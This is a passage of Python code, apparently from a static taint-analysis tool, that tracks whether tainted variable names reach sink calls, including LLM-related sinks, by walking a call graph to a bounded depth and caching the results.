        for what, expr, call in scope.sinks:
            if any(isinstance(n, cst.Name) and n.value in carried for n in _carried(expr)):
                found = Reached(f.Fact(f.LLM, what, call), scope, (), ())
                break
        if found is None and depth < graph.MAX_DEPTH:
            for edge, target in self.index.edges(scope):
                if found is not None or not isinstance(edge.node, cst.Call):
                    continue
                for position, inner in enumerate(target.params[1:] if target.klass else target.params):
                    argument = s.arg(edge.node, position, inner)
                    if argument is not None and any(isinstance(n, cst.Name) and n.value in carried
                                                    for n in s.walk(argument)):
                        deeper = self.sinking(target, inner, depth + 1)
                        if deeper is not None:
                            found = Reached(deeper.fact, deeper.scope, (graph.Hop(scope, edge, target), *deeper.hops), ())
                            break
        self._sinks[key] = found
        return found

